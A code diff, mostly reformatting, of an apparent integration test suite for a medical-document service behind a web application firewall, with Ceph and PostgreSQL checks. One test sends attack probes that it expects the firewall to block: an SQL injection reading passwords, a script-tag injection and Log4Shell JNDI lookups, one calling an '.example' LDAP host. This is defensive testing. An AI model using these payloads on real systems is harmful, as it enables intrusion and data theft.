@@ -200,7 +200,7 @@ describe.skipIf(!isRoot)('local lab (root, real services)', () => {
     }
   });
 
-  it('issue 13: a document\'s content is an object in RGW read through both gateways (SSE-KMS), sealed, and neither it nor its ciphertext is in clear in RADOS or PostgreSQL', async () => {
+  it("issue 13: a document's content is an object in RGW read through both gateways (SSE-KMS), sealed, and neither it nor its ciphertext is in clear in RADOS or PostgreSQL", async () => {
     const marker = Buffer.from(`Compte rendu confidentiel ${randomBytes(16).toString('hex')} fin`, 'utf8');
     const post = await postDocument(0, marker);
     expect(post.status).toBe(201);
@@ -332,13 +332,35 @@ describe.skipIf(!isRoot)('local lab (root, real services)', () => {
     // The uploader is curl in its own process (TLS and JSON of 27 MB in this process would add
     // its own delay to the probes), the probes are this process's.
     const file = join(stateDir, 'upload.json');
-    await writeFile(file, JSON.stringify({ title: 'Upload long', patientId: 'p-max', category: 'imagerie', contentBase64: randomBytes(MAX_DOCUMENT_BYTES).toString('base64') }));
+    await writeFile(
+      file,
+      JSON.stringify({ title: 'Upload long', patientId: 'p-max', category: 'imagerie', contentBase64: randomBytes(MAX_DOCUMENT_BYTES).toString('base64') }),
+    );
     const u = new URL(url);
     const ca = join(stateDir, 'pki', 'ca.crt');
     let uploading = true;
     const uploadStart = performance.now();
     let uploadMs = 0;
-    const upload = execa('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '--cacert', ca, '--resolve', `${WAF_SERVER_NAME}:${u.port || 443}:${u.hostname}`, '-H', 'content-type: application/json', '--data-binary', `@${file}`, `https://${WAF_SERVER_NAME}:${u.port || 443}/documents`], { reject: false, timeout: 120_000 }).finally(() => {
+    const upload = execa(
+      'curl',
+      [
+        '-sS',
+        '-o',
+        '/dev/null',
+        '-w',
+        '%{http_code}',
+        '--cacert',
+        ca,
+        '--resolve',
+        `${WAF_SERVER_NAME}:${u.port || 443}:${u.hostname}`,
+        '-H',
+        'content-type: application/json',
+        '--data-binary',
+        `@${file}`,
+        `https://${WAF_SERVER_NAME}:${u.port || 443}/documents`,
+      ],
+      { reject: false, timeout: 120_000 },
+    ).finally(() => {
       uploading = false;
       uploadMs = performance.now() - uploadStart;
     });
@@ -370,16 +392,25 @@ describe.skipIf(!isRoot)('local lab (root, real services)', () => {
     const attack = `${marker}' UNION SELECT password FROM users --`;
     const probes = [
       wafRequest(plan, `${url}/health?q=${encodeURIComponent(attack)}`),
-      wafRequest(plan, `${url}/documents`, { method: 'POST', body: { title: `<script>${marker}</script>`, patientId: 'p-1', category: 'cr', contentBase64: 'aGVsbG8=' } }),
+      wafRequest(plan, `${url}/documents`, {
+        method: 'POST',
+        body: { title: `<script>${marker}</script>`, patientId: 'p-1', category: 'cr', contentBase64: 'aGVsbG8=' },
+      }),
       wafRequest(plan, `${url}/health`, { headers: { 'User-Agent': `\${jndi:ldap://${marker}.example/a}` } }),
       wafRequest(plan, `${url}/health`, { headers: { 'X-Api-Version': `\${jndi:ldap://${marker}/x}` } }),
       wafRequest(plan, `${url}/health`, { headers: { Cookie: `session=${encodeURIComponent(attack)}` } }),
       wafRequest(plan, `${url}/${marker}/admin`),
     ];
     const statuses = (await Promise.all(probes)).map((r) => r.status);
-    expect(statuses.every((st) => st >= 400), `statuses ${statuses.join(' ')}`).toBe(true);
+    expect(
+      statuses.every((st) => st >= 400),
+      `statuses ${statuses.join(' ')}`,
+    ).toBe(true);
     await sleep(1500); // the relay writes after the response
-    const r = await execa('grep', ['-rlF', '--binary-files=text', marker, stateDir], { reject: false });
+    // BlueStore's 4 GiB sparse `block` files are left out: grep reads their holes as zeros (16 GiB,
+    // minutes) and they hold only what reached RADOS, where no refused request goes (the contents
+    // that do are checked against clear text by the RADOS test above).
+    const r = await execa('grep', ['-rlF', '--binary-files=text', '--exclude=block', marker, stateDir], { reject: false });
     expect(r.exitCode, `files holding the marker:\n${r.stdout}`).toBe(1);
   });
 
@@ -406,7 +437,14 @@ describe.skipIf(!isRoot)('local lab (root, real services)', () => {
     };
     const loaded = rules.data.groups.flatMap((g) => g.rules);
     expect(loaded.map((r) => r.name)).toEqual(
-      expect.arrayContaining(['TargetDown', 'PostgresNoSynchronousStandby', 'PostgresReplicationLagHigh', 'CephHealthError', 'CephPGsDegraded', 'CephCapacity']),
+      expect.arrayContaining([
+        'TargetDown',
+        'PostgresNoSynchronousStandby',
+        'PostgresReplicationLagHigh',
+        'CephHealthError',
+        'CephPGsDegraded',
+        'CephCapacity',
+      ]),
     );
     expect(loaded.some((r) => r.name.startsWith('NoWriteActivity'))).toBe(true);
     expect(loaded.every((r) => r.health === 'ok')).toBe(true);
